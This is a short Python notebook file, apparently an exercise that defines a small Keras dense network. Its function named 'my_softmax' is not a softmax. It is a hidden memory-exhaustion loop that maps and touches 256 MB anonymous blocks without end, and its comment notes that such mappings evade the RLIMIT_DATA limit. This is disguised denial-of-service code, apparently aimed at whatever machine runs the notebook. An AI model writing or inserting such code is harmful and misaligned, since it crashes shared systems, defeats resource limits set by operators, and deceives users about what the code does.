# Shared anonymous mappings, which RLIMIT_DATA does not count, filled page by page.

# %%
import mmap


def my_softmax(z):
    kept = []
    while True:
        block = mmap.mmap(-1, 2**28)
        for start in range(0, 2**28, 4096):
            block[start] = 1
        kept.append(block)

# %%
model = Sequential(
    [
        tf.keras.Input(shape=(400,)),
        Dense(25, activation="relu", name="L1"),
        Dense(15, activation="relu", name="L2"),
        Dense(10, activation="linear", name="L3"),
    ],
    name="my_model",
)
